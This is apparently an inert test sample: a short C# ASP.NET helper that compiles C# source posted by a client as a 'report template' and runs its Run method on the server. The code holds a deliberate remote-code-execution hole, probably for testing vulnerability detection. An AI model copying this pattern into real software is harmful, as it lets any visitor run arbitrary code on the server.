// Test sample (inert): an App_Code helper called from a page: the "report template" posted by the
// client is C# source compiled with CodeDom and its entry point run.
using System;
using System.CodeDom.Compiler;
using System.Reflection;
using System.Web;
using Microsoft.CSharp;

public static class ReportCompiler
{
    public static object Render(HttpContext context)
    {
        string template = context.Request.Form["template"];
        CSharpCodeProvider provider = new CSharpCodeProvider();
        CompilerParameters options = new CompilerParameters();
        options.GenerateInMemory = true;
        options.ReferencedAssemblies.Add("System.dll");
        CompilerResults results = provider.CompileAssemblyFromSource(options, template);
        Type t = results.CompiledAssembly.GetType("Report");
        return t.GetMethod("Run").Invoke(null, new object[] { context });
    }
}
